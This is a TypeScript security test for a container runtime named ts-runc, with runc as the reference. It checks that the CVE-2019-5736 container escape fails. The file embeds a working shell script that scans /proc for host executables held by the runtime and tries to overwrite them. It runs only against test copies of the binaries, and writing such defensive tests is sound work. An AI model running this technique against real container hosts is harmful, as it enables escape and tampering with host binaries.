// CVE-2019-5736 against ts-runc, with runc 1.1.5 as the oracle in the same
// test: a process of the container loops over /proc/*/exe, /proc/*/fd/* and
// /proc/*/map_files/*, holds every file of another process that is not one
// of the container's own, and tries again and again to write to it through
// /proc/self/fd/N (a running executable refuses writers, so the attack waits
// for the runtime to be gone). It runs while the test `exec`s into the
// container, and while a created container waits for `start`. The runtime's
// interpreter is a copy of node made for the test, first on PATH (bin/ts-runc
// runs `env node`); runc runs from a copy of runc. After each attack the
// copy's sha256 must be unchanged wherever runc's is (docs/runc.md, "Defences").
import t from 'tap';
import {
  chmodSync,
  closeSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readFileSync,
  readlinkSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { spawnSync } from 'node:child_process';
import { cleanEnv, isRoot, ROOT, run, tool } from '../helpers/tools.js';
import { addUserNamespace } from '../helpers/oci.js';
import { waitFor } from '../helpers/wait.js';

const haveRunc = existsSync('/usr/sbin/runc');
const skip = !isRoot()
  ? 'needs root (CI runs as root)'
  : !haveRunc
    ? 'runc (the oracle) is not installed at /usr/sbin/runc'
    : false;

const scratch = mkdtempSync('/tmp/nslab-exe-attack-');
chmodSync(scratch, 0o755);
const binDir = join(scratch, 'bin');
const baseRootfs = join(scratch, 'rootfs');
const made: Array<{ rt: Runtime; id: string }> = [];

t.teardown(() => {
  for (const { rt, id } of made)
    spawnSync(rt.argv[0]!, [...rt.argv.slice(1), 'delete', '-f', id], {
      env: rt.env,
      stdio: 'ignore',
      timeout: 30_000,
    });
  rmSync(scratch, { recursive: true, force: true });
});

interface Runtime {
  name: string;
  argv: string[];
  env: NodeJS.ProcessEnv;
  /** The copy of the runtime's executable that the attack aims at. */
  victim: string;
}

const sha256 = (path: string) => createHash('sha256').update(readFileSync(path)).digest('hex');

// The attacker, a busybox sh script. A file it holds is "outside" when the
// path its link names inside the container is not that same file (a host
// path, a memfd, a detached mount shown as "/"). fds 0-2 are skipped: the
// caller hands those to the container on purpose.
const ATTACK = `#!/bin/sh
exec </dev/null >>/tmp/attack.log 2>&1
fd=3
held=" "
while [ ! -e /tmp/stop ]; do
  for f in /proc/[0-9]*/exe /proc/[0-9]*/fd/* /proc/[0-9]*/map_files/*; do
    [ $fd -le 9 ] || break
    case $f in /proc/$$/*|/proc/*/fd/[012]) continue;; esac
    [ -f "$f" ] || continue
    eval "command exec $fd<\\"\\$f\\"" 2>/dev/null || continue
    r=$(readlink /proc/self/fd/$fd)
    case "$held" in *" $r "*) eval "exec $fd<&-"; continue;; esac
    if [ /proc/self/fd/$fd -ef "$r" ]; then eval "exec $fd<&-"; continue; fi
    held="$held$r "
    echo "held $f -> $r"
    fd=$((fd+1))
  done
  i=3
  while [ $i -lt $fd ]; do
    if printf 'PWNED' 2>/dev/null >>/proc/self/fd/$i; then echo "wrote $(readlink /proc/self/fd/$i)"; fi
    i=$((i+1))
  done
done
echo stopped
`;

let count = 0;
/** A bundle with its own copy of the rootfs (the attack writes its log there). */
function bundle(
  rt: Runtime,
  opts: { userns: boolean; ptrace?: boolean; args: string[] },
): { dir: string; rootfs: string } {
  const dir = join(scratch, `bundle-${++count}`);
  const rootfs = join(dir, 'rootfs');
  mkdirSync(dir);
  // cp -a: the rootfs has device nodes.
  const copied = run(['cp', '-a', baseRootfs, rootfs]);
  if (copied.code !== 0) throw new Error(copied.stderr);
  writeFileSync(join(rootfs, 'attack.sh'), ATTACK, { mode: 0o755 });
  chmodSync(join(rootfs, 'tmp'), 0o1777);
  const r = run([tool('runc'), 'spec', '-b', dir]);
  if (r.code !== 0) throw new Error(r.stderr);
  const config = JSON.parse(readFileSync(join(dir, 'config.json'), 'utf8'));
  config.root = { path: rootfs, readonly: false };
  config.process.terminal = false;
  config.process.args = opts.args;
  if (opts.ptrace)
    for (const set of ['bounding', 'effective', 'permitted']) config.process.capabilities[set].push('CAP_SYS_PTRACE');
  if (opts.userns) addUserNamespace(config);
  writeFileSync(join(dir, 'config.json'), JSON.stringify(config, null, 2));
  void rt;
  return { dir, rootfs };
}

/** A runtime command whose container may outlive it: stdio on files, so nothing waits on a pipe the container holds. */
function cmd(rt: Runtime, args: string[], cwd = '/'): { code: number | null; stderr: string } {
  const err = join(scratch, `stderr-${++count}`);
  const e = openSync(err, 'w');
  const r = spawnSync(rt.argv[0]!, [...rt.argv.slice(1), ...args], {
    stdio: ['ignore', 'ignore', e],
    env: rt.env,
    cwd,
    timeout: 30_000,
  });
  closeSync(e);
  return { code: r.status, stderr: readFileSync(err, 'utf8') };
}

/** The attacker's window: time it gets to try, not a wait for something to happen. */
const attackWindow = (ms: number) => new Promise((r) => setTimeout(r, ms));

interface Outcome {
  held: string[];
  wrote: string[];
  intact: boolean;
}

/**
 * One attack: `scenario` 'exec' runs the attacker as the container's
 * process and execs `true` into it eight times; 'created' creates a
 * container (its init waits for start), execs the attacker into it, then
 * starts it. Then the attacker gets time to write, is stopped, and the
 * container deleted.
 */
async function attack(
  rt: Runtime,
  scenario: 'exec' | 'created',
  opts: { userns: boolean; ptrace?: boolean },
): Promise<Outcome> {
  const before = sha256(rt.victim);
  const id = `atk-${count + 1}`;
  const { dir, rootfs } = bundle(rt, { ...opts, args: scenario === 'exec' ? ['/attack.sh'] : ['sleep', '1000'] });
  const log = join(rootfs, 'tmp', 'attack.log');
  made.push({ rt, id });
  try {
    if (scenario === 'exec') {
      const r = cmd(rt, ['run', '-d', id], dir);
      if (r.code !== 0) throw new Error(`${rt.name} run -d: ${r.stderr}`);
      // The attacker runs once its log exists (its first line opens it).
      if (!(await waitFor(() => existsSync(log), { timeoutMs: 10_000 })))
        throw new Error(`${rt.name}: the attacker did not start`);
      for (let i = 0; i < 8; i++) {
        const e = cmd(rt, ['exec', id, 'true']);
        if (e.code !== 0) throw new Error(`${rt.name} exec: ${e.stderr}`);
      }
    } else {
      const r = cmd(rt, ['create', id], dir);
      if (r.code !== 0) throw new Error(`${rt.name} create: ${r.stderr}`);
      const e = cmd(rt, ['exec', '-d', id, '/attack.sh']);
      if (e.code !== 0) throw new Error(`${rt.name} exec -d: ${e.stderr}`);
      await attackWindow(1500);
      const s = cmd(rt, ['start', id]);
      if (s.code !== 0) throw new Error(`${rt.name} start: ${s.stderr}`);
    }
    // The runtime is gone: a held executable takes writers now.
    await attackWindow(1500);
    writeFileSync(join(rootfs, 'tmp', 'stop'), '');
    // It ends its round and says so.
    await waitFor(() => existsSync(log) && /^stopped$/m.test(readFileSync(log, 'utf8')), { timeoutMs: 10_000 });
  } finally {
    cmd(rt, ['delete', '-f', id]);
    made.splice(
      made.findIndex((m) => m.id === id),
      1,
    );
  }
  const lines = (existsSync(log) ? readFileSync(log, 'utf8') : '').split('\n');
  return {
    held: [
      ...new Set(
        lines.filter((l) => l.startsWith('held ')).map((l) => l.replace(/^held \/proc\/\d+\//, 'held /proc/N/')),
      ),
    ],
    wrote: [...new Set(lines.filter((l) => l.startsWith('wrote ')))],
    intact: sha256(rt.victim) === before,
  };
}

let ts: Runtime;
let runc: Runtime;

t.before(() => {
  if (skip) return;
  const built = run(['node', join(ROOT, 'scripts/make-rootfs.mjs'), '-q', baseRootfs]);
  if (built.code !== 0) throw new Error(`make-rootfs failed: ${built.stderr}`);
  mkdirSync(binDir);
  copyFileSync(process.execPath, join(binDir, 'node'));
  copyFileSync('/usr/sbin/runc', join(binDir, 'runc'));
  chmodSync(join(binDir, 'node'), 0o755);
  chmodSync(join(binDir, 'runc'), 0o755);
  const env = cleanEnv();
  env.PATH = `${binDir}:${env.PATH}`;
  ts = {
    name: 'ts-runc',
    argv: [tool('runc'), '--root', join(scratch, 'ts-state')],
    env,
    victim: join(binDir, 'node'),
  };
  runc = {
    name: 'runc',
    argv: [join(binDir, 'runc'), '--root', join(scratch, 'runc-state')],
    env,
    victim: join(binDir, 'runc'),
  };
});

t.test('ts-runc runs from the copy of node', { skip }, async (t) => {
  const { dir } = bundle(ts, { userns: false, args: ['true'] });
  made.push({ rt: ts, id: 'which-node' });
  t.equal(cmd(ts, ['create', 'which-node'], dir).code, 0);
  const state = JSON.parse(
    spawnSync(ts.argv[0]!, [...ts.argv.slice(1), 'state', 'which-node'], { env: ts.env, encoding: 'utf8' }).stdout,
  );
  t.equal(readlinkSync(`/proc/${state.pid}/exe`), ts.victim, 'the waiting init is a clone of the copy');
  cmd(ts, ['delete', '-f', 'which-node']);
  made.pop();
});

for (const userns of [false, true]) {
  for (const scenario of ['exec', 'created'] as const) {
    t.test(
      `${scenario}${userns ? ', user namespace' : ''}: the runtime's executable stays out of reach`,
      { skip },
      async (t) => {
        const theirs = await attack(runc, scenario, { userns });
        const ours = await attack(ts, scenario, { userns });
        t.comment(`runc: ${JSON.stringify(theirs)}`);
        t.comment(`ts-runc: ${JSON.stringify(ours)}`);
        t.ok(theirs.intact, "the oracle: runc's copy is intact");
        t.ok(ours.intact, 'the copy of node is intact');
        t.same(ours.wrote, [], 'the attacker wrote to no file outside the container');
        t.same(ours.held, [], 'and could not even hold one');
      },
    );
  }
}

// With CAP_SYS_PTRACE and no user namespace, ptrace access checks pass even
// for a non-dumpable process: the attacker holds the runtime's executable.
// runc runs its init from a read-only or sealed copy of itself, so the held
// file takes no writes. See docs/runc.md, "Defences", for what ts-runc does.
for (const scenario of ['exec', 'created'] as const) {
  t.test(`${scenario}, CAP_SYS_PTRACE, no user namespace`, { skip }, async (t) => {
    const theirs = await attack(runc, scenario, { userns: false, ptrace: true });
    const ours = await attack(ts, scenario, { userns: false, ptrace: true });
    t.comment(`runc: ${JSON.stringify(theirs)}`);
    t.comment(`ts-runc: ${JSON.stringify(ours)}`);
    t.ok(theirs.intact, "the oracle: runc's copy is intact");
    t.ok(ours.intact, 'the copy of node is intact');
  });
}

t.test('CAP_SYS_PTRACE in a user namespace does not reach the runtime', { skip }, async (t) => {
  const theirs = await attack(runc, 'created', { userns: true, ptrace: true });
  const ours = await attack(ts, 'created', { userns: true, ptrace: true });
  t.comment(`runc: ${JSON.stringify(theirs)}`);
  t.comment(`ts-runc: ${JSON.stringify(ours)}`);
  t.ok(theirs.intact && ours.intact, 'both copies intact');
  t.same(ours.held, [], "ptrace access needs CAP_SYS_PTRACE in the host's user namespace");
});
